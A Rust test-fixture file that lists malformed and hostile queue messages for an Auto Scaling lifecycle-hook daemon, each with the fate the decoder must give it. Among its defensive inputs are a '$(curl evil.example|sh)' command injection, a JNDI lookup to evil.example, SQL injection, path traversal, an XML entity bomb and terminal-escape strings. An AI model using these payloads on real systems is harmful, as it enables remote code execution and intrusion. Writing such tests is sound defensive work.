//! Odd, malformed and hostile messages, and what must become of each.
//!
//! Plain data for more than one test: `messages.rs` puts every row through the decoder alone; a test of the whole daemon can launch
//! one instance for each row in the group [`Odd::group`], send [`Odd::body`] of that launch, and look for [`Odd::fate`].

use serde_json::{Map, Value, json};

/// What must become of a message.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Fate {
    /// The decoder refuses it: it stands in the dead-letter queue with this code.
    Undecodable(&'static str),
    /// It is a lifecycle action well said, but not one for this worker (another account, a group without a route), or not true:
    /// it stands in the dead-letter queue with this code.
    Refused(&'static str),
    /// It asks for nothing: it is deleted.
    Acknowledged,
    /// It is as good as any: the launch that it tells of is served.
    Served,
}

/// The launch that a message tells of, or pretends to.
#[derive(Debug, Clone)]
pub struct Launch {
    /// `EC2InstanceId`
    pub instance: String,
    /// `AutoScalingGroupName`
    pub group: String,
    /// `LifecycleHookName`
    pub hook: String,
    /// `LifecycleActionToken`
    pub token: String,
    /// `AccountId`
    pub account: String,
    /// The region in which all this is.
    pub region: String,
}

impl Launch {
    /// A launch in `group`, made up.
    pub fn example(group: &str) -> Self {
        Self {
            instance: "i-0a1b2c3d4e5f60718".to_owned(),
            group: group.to_owned(),
            hook: "enrol-on-launch".to_owned(),
            token: "5d1f0a52-7b0e-4c8e-9a49-2f6d3f6f1c01".to_owned(),
            account: "123456789012".to_owned(),
            region: "eu-central-1".to_owned(),
        }
    }

    /// The notification as Auto Scaling sends it to the queue itself.
    pub fn direct(&self) -> Value {
        json!({
            "Origin": "EC2",
            "LifecycleHookName": self.hook,
            "Destination": "AutoScalingGroup",
            "AccountId": self.account,
            "RequestId": "6f2c63f0-1a52-4d0a-9a4e-0b5e7d9c1f10",
            "LifecycleTransition": "autoscaling:EC2_INSTANCE_LAUNCHING",
            "AutoScalingGroupName": self.group,
            "Service": "AWS Auto Scaling",
            "Time": "2026-03-02T08:15:42.118Z",
            "EC2InstanceId": self.instance,
            "LifecycleActionToken": self.token,
        })
    }

    /// The notification as an EventBridge event.
    pub fn event_bridge(&self) -> Value {
        json!({
            "version": "0",
            "id": "3d1f6f0a-9a1d-7c1e-53cf-0f3f5a2b6d04",
            "detail-type": "EC2 Instance-launch Lifecycle Action",
            "source": "aws.autoscaling",
            "account": self.account,
            "time": "2026-03-02T08:15:42Z",
            "region": self.region,
            "resources": [],
            "detail": {
                "LifecycleActionToken": self.token,
                "AutoScalingGroupName": self.group,
                "LifecycleHookName": self.hook,
                "EC2InstanceId": self.instance,
                "LifecycleTransition": "autoscaling:EC2_INSTANCE_LAUNCHING",
                "Origin": "EC2",
                "Destination": "AutoScalingGroup",
            },
        })
    }

    /// `message` as SNS delivers it.
    pub fn sns(&self, message: &str) -> Value {
        json!({
            "Type": "Notification",
            "MessageId": "b0f1a7d2-2f1e-5f7c-9d31-f6a6a1a1b203",
            "TopicArn": format!("arn:aws:sns:{}:{}:lifecycle", self.region, self.account),
            "Message": message,
            "Timestamp": "2026-03-02T08:15:42.201Z",
            "SignatureVersion": "1",
            "Signature": "ZXhhbXBsZQ==",
        })
    }

    fn direct_with(&self, field: &str, value: impl Into<Value>) -> String {
        with(self.direct(), field, value).to_string()
    }

    fn direct_without(&self, field: &str) -> String {
        without(self.direct(), field).to_string()
    }

    fn event_bridge_with(&self, field: &str, value: impl Into<Value>) -> String {
        with(self.event_bridge(), field, value).to_string()
    }

    fn detail_with(&self, field: &str, value: impl Into<Value>) -> String {
        let mut event = self.event_bridge();
        event["detail"] = with(event["detail"].take(), field, value);
        event.to_string()
    }

    fn test_notification(&self) -> Value {
        json!({
            "AccountId": self.account,
            "RequestId": "d5c4b3a2-9180-4f6e-8d7c-6b5a49382716",
            "AutoScalingGroupName": self.group,
            "Service": "AWS Auto Scaling",
            "Event": "autoscaling:TEST_NOTIFICATION",
            "Time": "2026-03-02T08:00:00.000Z",
        })
    }
}

/// The beginning of a private key, as somebody might paste it into the wrong field. It is none.
const PRIVATE_KEY: &str = concat!("-----BEGIN EC PRIV", "ATE KEY-----\nMHcCAQEEIFakeFakeFakeFakeFakeFakeFakeFake");
/// What of it may stand nowhere but in the body itself.
pub const PRIVATE_KEY_SECRET: &str = "MHcCAQEEIFake";

/// A group that exists, and that no route may match.
pub const UNROUTED_GROUP: &str = "nobody-routes-this";

/// One row of the table.
#[derive(Debug, Clone, Copy)]
pub struct Odd {
    /// What is odd about it.
    pub name: &'static str,
    /// The group in which the instance is launched.
    pub group: &'static str,
    /// The body, for a launch.
    pub body: fn(&Launch) -> String,
    /// What must become of it.
    pub fate: Fate,
}

/// The most that SQS takes as a body, in bytes.
pub const SQS_MAX_BYTES: usize = 1 << 20;

/// Whether SQS takes such a body at all: not an empty one, nor one above its limit, nor one with characters that XML has not.
pub fn sqs_takes(body: &str) -> bool {
    let fits = |c: char| matches!(c, '\t' | '\n' | '\r' | ' '..='\u{d7ff}' | '\u{e000}'..='\u{fffd}' | '\u{10000}'..);
    (1..=SQS_MAX_BYTES).contains(&body.len()) && body.chars().all(fits)
}

fn with(mut object: Value, field: &str, value: impl Into<Value>) -> Value {
    object[field] = value.into();
    object
}

fn without(mut object: Value, field: &str) -> Value {
    let removed = object.as_object_mut().and_then(|fields| fields.remove(field));
    assert!(removed.is_some(), "there is no {field} to take away");
    object
}

/// `object`, whose values are texts, with every character of its texts escaped.
fn escaped(object: &Value) -> String {
    let escaped = |text: &str| text.encode_utf16().map(|unit| format!("\\u{unit:04x}")).collect::<String>();
    let fields: &Map<String, Value> = object.as_object().expect("an object");
    let fields = fields.iter().map(|(key, value)| format!("\"{}\":\"{}\"", escaped(key), escaped(value.as_str().expect("a string"))));
    format!("{{{}}}", fields.collect::<Vec<_>>().join(","))
}

/// `object` with a field of padding that makes it exactly as long as SQS allows.
fn padded(object: Value) -> String {
    let bare = with(object.clone(), "Padding", "").to_string().len();
    with(object, "Padding", "x".repeat(SQS_MAX_BYTES - bare)).to_string()
}

const fn odd(name: &'static str, fate: Fate, body: fn(&Launch) -> String) -> Odd {
    Odd { name, group: "web-blue", body, fate }
}

/// A row whose group has a name of its own. The body is the direct form.
const fn odd_group(name: &'static str, group: &'static str) -> Odd {
    Odd { name, group, body: |launch| launch.direct().to_string(), fate: Fate::Served }
}

const NOT_JSON: Fate = Fate::Undecodable("not_json");
const TOO_DEEP: Fate = Fate::Undecodable("too_deep");
const TOO_MUCH: Fate = Fate::Undecodable("too_much");
const NOT_AN_OBJECT: Fate = Fate::Undecodable("not_an_object");
const DUPLICATE_FIELD: Fate = Fate::Undecodable("duplicate_field");
const UNKNOWN_ENVELOPE: Fate = Fate::Undecodable("unknown_envelope");
const NESTED_ENVELOPE: Fate = Fate::Undecodable("nested_envelope");
const MISSING_FIELD: Fate = Fate::Undecodable("missing_field");
const BAD_FIELD: Fate = Fate::Undecodable("bad_field");
const UNKNOWN_TRANSITION: Fate = Fate::Undecodable("unknown_transition");
const OTHER_EVENT: Fate = Fate::Undecodable("other_event");
const CONFLICTING_FIELDS: Fate = Fate::Undecodable("conflicting_fields");

/// The table.
pub const ODD_MESSAGES: &[Odd] = &[
    // No JSON at all, or not quite.
    odd("an empty body", NOT_JSON, |_| String::new()),
    odd("nothing but white space", NOT_JSON, |_| " \r\n\t ".to_owned()),
    odd("a notification cut in half", NOT_JSON, |launch| {
        let whole = launch.direct().to_string();
        whole[..whole.len() / 2].to_owned()
    }),
    odd("a notification without its last brace", NOT_JSON, |launch| {
        let whole = launch.direct().to_string();
        whole[..whole.len() - 1].to_owned()
    }),
    odd("base64 of binary", NOT_JSON, |_| "f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAAwCgAAAAAAABAAAAAAAAAAA==".to_owned()),
    odd("plain prose", NOT_JSON, |_| "please enrol my instance, thank you".to_owned()),
    odd("a page of HTML", NOT_JSON, |_| "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>".to_owned()),
    odd("XML with an entity bomb", NOT_JSON, |_| {
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]><x>&b;</x>".to_owned()
    }),
    odd("YAML", NOT_JSON, |launch| {
        format!("EC2InstanceId: {}\nLifecycleTransition: autoscaling:EC2_INSTANCE_LAUNCHING\n", launch.instance)
    }),
    odd("a form", NOT_JSON, |launch| format!("Action=CompleteLifecycleAction&InstanceId={}", launch.instance)),
    odd("single quotes", NOT_JSON, |launch| launch.direct().to_string().replace('"', "'")),
    odd("a comma too many", NOT_JSON, |launch| launch.direct().to_string().replace('}', ",}")),
    odd("a comment in the JSON", NOT_JSON, |launch| launch.direct().to_string().replacen('{', "{/* launch */", 1)),
    odd("two notifications in one body", NOT_JSON, |launch| format!("{0}\n{0}", launch.direct())),
    odd("half a surrogate pair", NOT_JSON, |launch| launch.direct_with("Note", "@").replace('@', "\\ud800")),
    odd("a number beyond all bounds", NOT_JSON, |launch| launch.direct_with("Note", "@").replace("\"@\"", "1e999999")),
    odd("a NUL as such in a name", NOT_JSON, |launch| launch.direct_with("AutoScalingGroupName", "web@blue").replace('@', "\0")),
    odd("bytes that were no UTF-8 once", NOT_JSON, |_| "\u{fffd}\u{fffd}{\u{fffd}".to_owned()),
    odd("two byte order marks", NOT_JSON, |launch| format!("\u{feff}\u{feff}{}", launch.direct())),
    odd("1 MiB of one letter", NOT_JSON, |_| "a".repeat(SQS_MAX_BYTES)),
    odd("1 MiB of opening brackets", TOO_DEEP, |_| "[".repeat(SQS_MAX_BYTES)),
    odd("lists nested deeply in a field nobody reads", TOO_DEEP, |launch| {
        launch.direct_with("Note", "@").replace("\"@\"", &format!("{}{}", "[".repeat(10_000), "]".repeat(10_000)))
    }),
    odd("metadata nested deeply", TOO_DEEP, |launch| {
        let deep = format!("{}1{}", "{\"a\":".repeat(200), "}".repeat(200));
        launch.direct_with("NotificationMetadata", "@").replace("\"@\"", &deep)
    }),
    odd("1 MiB of objects that would take a hundred of the memory", TOO_MUCH, |launch| {
        let chain = format!("{}0{}", "{\"\":".repeat(100), "}".repeat(100));
        let bare = launch.direct_with("Note", "@").to_string();
        bare.replace("\"@\"", &format!("[{}0]", format!("{chain},").repeat((SQS_MAX_BYTES - bare.len()) / (chain.len() + 1))))
    }),
    // JSON, but no object, or none that anybody knows.
    odd("null", NOT_AN_OBJECT, |_| "null".to_owned()),
    odd("true", NOT_AN_OBJECT, |_| "true".to_owned()),
    odd("a number", NOT_AN_OBJECT, |_| "-42.5e3".to_owned()),
    odd("a list of notifications", NOT_AN_OBJECT, |launch| json!([launch.direct()]).to_string()),
    odd("a notification as a string", NOT_AN_OBJECT, |launch| Value::String(launch.direct().to_string()).to_string()),
    odd("an empty object", UNKNOWN_ENVELOPE, |_| "{}".to_owned()),
    odd("an event of S3", UNKNOWN_ENVELOPE, |_| json!({"Records": [{"eventSource": "aws:s3", "s3": {}}]}).to_string()),
    odd("an alarm of CloudWatch", UNKNOWN_ENVELOPE, |_| json!({"AlarmName": "x", "NewStateValue": "ALARM"}).to_string()),
    odd("an envelope of somebody's own", UNKNOWN_ENVELOPE, |launch| json!({"payload": launch.direct()}).to_string()),
    odd("hostile field names", UNKNOWN_ENVELOPE, |_| json!({"\u{1b}[2J": 1, "a\nlevel=ERROR": 2, "": 3}).to_string()),
    odd("field names in small letters", UNKNOWN_ENVELOPE, |launch| launch.direct().to_string().to_lowercase()),
    // Fields that are missing, or null.
    odd("no transition", MISSING_FIELD, |launch| launch.direct_without("LifecycleTransition")),
    odd("no instance", MISSING_FIELD, |launch| launch.direct_without("EC2InstanceId")),
    odd("no group", MISSING_FIELD, |launch| launch.direct_without("AutoScalingGroupName")),
    odd("no hook", MISSING_FIELD, |launch| launch.direct_without("LifecycleHookName")),
    odd("no token", MISSING_FIELD, |launch| launch.direct_without("LifecycleActionToken")),
    odd("no account", MISSING_FIELD, |launch| launch.direct_without("AccountId")),
    odd("a token that is null", MISSING_FIELD, |launch| launch.direct_with("LifecycleActionToken", Value::Null)),
    odd("EventBridge without a detail", MISSING_FIELD, |launch| without(launch.event_bridge(), "detail").to_string()),
    odd("EventBridge without a detail-type", MISSING_FIELD, |launch| without(launch.event_bridge(), "detail-type").to_string()),
    odd("EventBridge without an account", MISSING_FIELD, |launch| without(launch.event_bridge(), "account").to_string()),
    odd("EventBridge with an empty detail", MISSING_FIELD, |launch| launch.event_bridge_with("detail", json!({}))),
    odd("SNS without a message", MISSING_FIELD, |launch| without(launch.sns(""), "Message").to_string()),
    // Fields of the wrong type.
    odd("an instance id that is a number", BAD_FIELD, |launch| launch.direct_with("EC2InstanceId", 42)),
    odd("an instance id that is a list", BAD_FIELD, |launch| launch.direct_with("EC2InstanceId", json!([launch.instance]))),
    odd("a group that is an object", BAD_FIELD, |launch| launch.direct_with("AutoScalingGroupName", json!({"name": launch.group}))),
    odd("a transition that is true", BAD_FIELD, |launch| launch.direct_with("LifecycleTransition", true)),
    odd("an account that is a number", BAD_FIELD, |launch| launch.direct_with("AccountId", 123_456_789_012_u64)),
    odd("an origin that is a list", BAD_FIELD, |launch| launch.direct_with("Origin", json!(["EC2"]))),
    odd("a detail that is a string", BAD_FIELD, |launch| launch.event_bridge_with("detail", launch.direct().to_string())),
    odd("an SNS message that is an object", BAD_FIELD, |launch| with(launch.sns(""), "Message", launch.direct()).to_string()),
    odd("an SNS type that SNS has not", BAD_FIELD, |launch| with(launch.sns("{}"), "Type", "Notice").to_string()),
    odd("an SNS topic that is none", BAD_FIELD, |launch| {
        with(launch.sns(&launch.direct().to_string()), "TopicArn", "arn:aws:sqs:eu-central-1:123456789012:lifecycle").to_string()
    }),
    odd("a region that is none", BAD_FIELD, |launch| launch.event_bridge_with("region", "https://evil.example/")),
    // Instance ids that are none.
    odd("an empty instance id", BAD_FIELD, |launch| launch.direct_with("EC2InstanceId", "")),
    odd("path traversal for an instance id", BAD_FIELD, |launch| launch.direct_with("EC2InstanceId", "../../etc/passwd")),
    odd("path traversal behind an instance id", BAD_FIELD, |launch| {
        launch.direct_with("EC2InstanceId", format!("{}/../i-0ffffffffffffffff", launch.instance))
    }),
    odd("an instance id in capitals", BAD_FIELD, |launch| launch.direct_with("EC2InstanceId", launch.instance.to_uppercase())),
    odd("an instance id of full-width digits", BAD_FIELD, |launch| launch.direct_with("EC2InstanceId", "i-０１２３４５６７")),
    odd("an instance id with a newline and a forged log line", BAD_FIELD, |launch| {
        launch.direct_with("EC2InstanceId", format!("{}\nERROR all nodes are to be removed", launch.instance))
    }),
    odd("an instance id with a NUL", BAD_FIELD, |launch| launch.direct_with("EC2InstanceId", format!("{}\0", launch.instance))),
    odd("SQL for an instance id", BAD_FIELD, |launch| launch.direct_with("EC2InstanceId", "i-0a1b2c3d'; DROP TABLE nodes; --")),
    odd("a command for an instance id", BAD_FIELD, |launch| launch.direct_with("EC2InstanceId", "$(curl evil.example|sh)")),
    odd("a private key for an instance id", BAD_FIELD, |launch| launch.direct_with("EC2InstanceId", PRIVATE_KEY)),
    odd("a private key for a field name", UNKNOWN_ENVELOPE, |_| json!({PRIVATE_KEY: 1}).to_string()),
    odd("a managed instance of SSM", BAD_FIELD, |launch| launch.direct_with("EC2InstanceId", "mi-0a1b2c3d4e5f60718")),
    odd("an instance id of half a MiB", BAD_FIELD, |launch| launch.direct_with("EC2InstanceId", format!("i-{}", "0".repeat(1 << 19)))),
    // Other names that are none.
    odd("an empty group name", BAD_FIELD, |launch| launch.direct_with("AutoScalingGroupName", "")),
    odd("a group name with a colon", BAD_FIELD, |launch| launch.direct_with("AutoScalingGroupName", "${jndi:ldap://evil.example/a}")),
    odd("a group name with terminal control characters", BAD_FIELD, |launch| {
        launch.direct_with("AutoScalingGroupName", "web\u{1b}]0;owned\u{7}\u{1b}[2Jblue")
    }),
    odd("a group name of 256 characters", BAD_FIELD, |launch| launch.direct_with("AutoScalingGroupName", "ü".repeat(256))),
    odd("a hook name with spaces", BAD_FIELD, |launch| launch.direct_with("LifecycleHookName", "enrol on launch")),
    odd("a hook name with an ampersand", BAD_FIELD, |launch| {
        launch.direct_with("LifecycleHookName", "enrol-on-launch&LifecycleActionResult=ABANDON")
    }),
    odd("a token without hyphens", BAD_FIELD, |launch| launch.direct_with("LifecycleActionToken", launch.token.replace('-', ""))),
    odd("a token in braces", BAD_FIELD, |launch| launch.direct_with("LifecycleActionToken", format!("{{{}}}", launch.token))),
    odd("a token of 36 other characters", BAD_FIELD, |launch| launch.direct_with("LifecycleActionToken", "z".repeat(36))),
    odd("a token for an instance id", BAD_FIELD, |launch| launch.direct_with("EC2InstanceId", launch.token.as_str())),
    odd("an account of 11 digits", BAD_FIELD, |launch| launch.direct_with("AccountId", "12345678901")),
    odd("an account in letters", BAD_FIELD, |launch| launch.direct_with("AccountId", "administrator")),
    odd("metadata of 100,000 bytes", BAD_FIELD, |launch| launch.direct_with("NotificationMetadata", "x".repeat(100_000))),
    // Transitions and events that are not lifecycle actions.
    odd("an unknown transition", UNKNOWN_TRANSITION, |launch| {
        launch.direct_with("LifecycleTransition", "autoscaling:EC2_INSTANCE_HIBERNATING")
    }),
    odd("a transition in small letters", UNKNOWN_TRANSITION, |launch| {
        launch.direct_with("LifecycleTransition", "autoscaling:ec2_instance_launching")
    }),
    odd("an unknown transition inside EventBridge", UNKNOWN_TRANSITION, |launch| launch.detail_with("LifecycleTransition", "LAUNCH")),
    odd("a launch that has succeeded already", OTHER_EVENT, |launch| {
        with(without(launch.direct(), "LifecycleTransition"), "Event", "autoscaling:EC2_INSTANCE_LAUNCH").to_string()
    }),
    odd("another EventBridge event of Auto Scaling", OTHER_EVENT, |launch| {
        launch.event_bridge_with("detail-type", "EC2 Instance Launch Successful")
    }),
    odd("an EventBridge event of EC2", OTHER_EVENT, |launch| {
        let detail = json!({"instance-id": launch.instance, "state": "running"});
        with(with(launch.event_bridge(), "detail-type", "EC2 Instance State-change Notification"), "detail", detail).to_string()
    }),
    // Contradictions.
    odd("one field twice", DUPLICATE_FIELD, |launch| {
        launch.direct().to_string().replacen('{', "{\"EC2InstanceId\":\"i-0ffffffffffffffff\",", 1)
    }),
    odd("one field twice, once in disguise", DUPLICATE_FIELD, |launch| {
        launch.direct().to_string().replacen('{', "{\"\\u0045C2InstanceId\":\"i-0ffffffffffffffff\",", 1)
    }),
    odd("one field twice, and every character of the others escaped", DUPLICATE_FIELD, |launch| {
        escaped(&launch.direct()).replacen('{', "{\"Service\":\"\",", 1)
    }),
    odd("one field twice inside SNS", DUPLICATE_FIELD, |launch| {
        launch.sns(&launch.direct().to_string().replacen('{', "{\"AccountId\":\"210987654321\",", 1)).to_string()
    }),
    odd("two envelopes at once", CONFLICTING_FIELDS, |launch| launch.direct_with("detail-type", "EC2 Instance-launch Lifecycle Action")),
    odd("a detail-type that contradicts its transition", CONFLICTING_FIELDS, |launch| {
        launch.event_bridge_with("detail-type", "EC2 Instance-terminate Lifecycle Action")
    }),
    odd("an account that contradicts its detail", CONFLICTING_FIELDS, |launch| launch.detail_with("AccountId", "210987654321")),
    odd("a test notification with a transition", CONFLICTING_FIELDS, |launch| launch.direct_with("Event", "autoscaling:TEST_NOTIFICATION")),
    // Envelopes that hold the wrong thing.
    odd("SNS that asks for a confirmation", Fate::Undecodable("sns_subscription_confirmation"), |launch| {
        let asking = with(launch.sns("You have chosen to subscribe to the topic"), "Type", "SubscriptionConfirmation");
        with(asking, "SubscribeURL", "https://sns.eu-central-1.amazonaws.com/?Action=ConfirmSubscription").to_string()
    }),
    odd("SNS that says farewell", Fate::Undecodable("sns_unsubscribe_confirmation"), |launch| {
        with(launch.sns("You have chosen to deactivate subscription"), "Type", "UnsubscribeConfirmation").to_string()
    }),
    odd("SNS with prose", NOT_JSON, |launch| launch.sns("Auto Scaling says hello").to_string()),
    odd("SNS with nothing", NOT_JSON, |launch| launch.sns("").to_string()),
    odd("SNS inside SNS", NESTED_ENVELOPE, |launch| launch.sns(&launch.sns(&launch.direct().to_string()).to_string()).to_string()),
    odd("SNS inside EventBridge", NESTED_ENVELOPE, |launch| launch.event_bridge_with("detail", launch.sns(&launch.direct().to_string()))),
    odd("EventBridge inside EventBridge inside SNS", NESTED_ENVELOPE, |launch| {
        launch.sns(&launch.event_bridge_with("detail", launch.event_bridge())).to_string()
    }),
    // Well said, but not for us, or not true.
    odd("another account", Fate::Refused("wrong_account"), |launch| launch.direct_with("AccountId", "210987654321")),
    odd("another account by EventBridge", Fate::Refused("wrong_account"), |launch| launch.event_bridge_with("account", "210987654321")),
    odd("another region", Fate::Refused("wrong_region"), |launch| launch.event_bridge_with("region", "ap-southeast-2")),
    odd("another region's topic", Fate::Refused("wrong_region"), |launch| {
        let message = launch.direct().to_string();
        Launch { region: "ap-southeast-2".to_owned(), ..launch.clone() }.sns(&message).to_string()
    }),
    Odd {
        name: "a group that no route matches",
        group: UNROUTED_GROUP,
        body: |launch| launch.direct().to_string(),
        fate: Fate::Refused("no_route"),
    },
    odd("an instance that is not there", Fate::Refused("unproven"), |launch| launch.direct_with("EC2InstanceId", "i-0ffffffffffffffff")),
    odd("a hook that the group has not", Fate::Refused("no_such_hook"), |launch| launch.direct_with("LifecycleHookName", "no-such-hook")),
    // Nothing to do.
    odd("a test notification", Fate::Acknowledged, |launch| launch.test_notification().to_string()),
    odd("a test notification through SNS", Fate::Acknowledged, |launch| launch.sns(&launch.test_notification().to_string()).to_string()),
    odd("a test notification through EventBridge", Fate::Acknowledged, |launch| {
        launch.event_bridge_with("detail", launch.test_notification())
    }),
    odd("a test notification with a hostile group", Fate::Acknowledged, |launch| {
        with(launch.test_notification(), "AutoScalingGroupName", "a:\u{1b}[31m\n").to_string()
    }),
    // Odd to look at, and good.
    odd("a byte order mark", Fate::Served, |launch| format!("\u{feff}{}", launch.direct())),
    odd("white space around, and CR LF between", Fate::Served, |launch| format!("\r\n{:#}\r\n", launch.direct()).replace('\n', "\r\n")),
    odd("every character escaped", Fate::Served, |launch| escaped(&launch.direct())),
    odd("1 MiB, most of it in a field nobody reads", Fate::Served, |launch| padded(launch.direct())),
    odd("50,000 fields nobody reads", Fate::Served, |launch| {
        let more = (0..50_000).map(|n| format!("\"x{n}\":{n}")).collect::<Vec<_>>().join(",");
        launch.direct().to_string().replacen('{', &format!("{{{more},"), 1)
    }),
    odd("fields that other languages mind", Fate::Served, |launch| launch.direct_with("__proto__", json!({"admin": true}))),
    odd("no origin and no destination", Fate::Served, |launch| without(without(launch.direct(), "Origin"), "Destination").to_string()),
    odd("an origin of times to come", Fate::Served, |launch| launch.direct_with("Origin", "Moon")),
    odd("no time", Fate::Served, |launch| launch.direct_without("Time")),
    odd("a time in words", Fate::Served, |launch| launch.direct_with("Time", "five to nine")),
    odd("metadata that is an object", Fate::Served, |launch| launch.direct_with("NotificationMetadata", json!({"server": "prod-chef"}))),
    odd("metadata that is JSON in a string", Fate::Served, |launch| {
        launch.direct_with("NotificationMetadata", "{\"server\":\"prod-chef\"}")
    }),
    odd("metadata that is a list", Fate::Served, |launch| launch.direct_with("NotificationMetadata", json!([1, "two", null]))),
    odd("metadata with NULs, newlines and escapes", Fate::Served, |launch| {
        launch.direct_with("NotificationMetadata", "a\0b\r\nlevel=ERROR \u{1b}[2J\u{202e}")
    }),
    odd("SNS with an EventBridge event", Fate::Served, |launch| launch.sns(&launch.event_bridge().to_string()).to_string()),
    odd("SNS with a byte order mark inside", Fate::Served, |launch| launch.sns(&format!("\u{feff}{}", launch.direct())).to_string()),
    odd("EventBridge without a transition inside", Fate::Served, |launch| {
        let mut event = launch.event_bridge();
        event["detail"] = without(event["detail"].take(), "LifecycleTransition");
        event.to_string()
    }),
    odd_group("a group name with spaces", "web servers of the blue kind"),
    odd_group("a group name with slashes", "teams/web/../blue"),
    odd_group("a group name in other scripts", "größe-グループ-🚀"),
    odd_group("a group name written backwards", "web-\u{202e}eulb"),
    odd_group("a group name like SQL", "'; DROP TABLE nodes; --"),
    odd_group("a group name like a template", "{instance_id}%s$(id)`id`"),
];
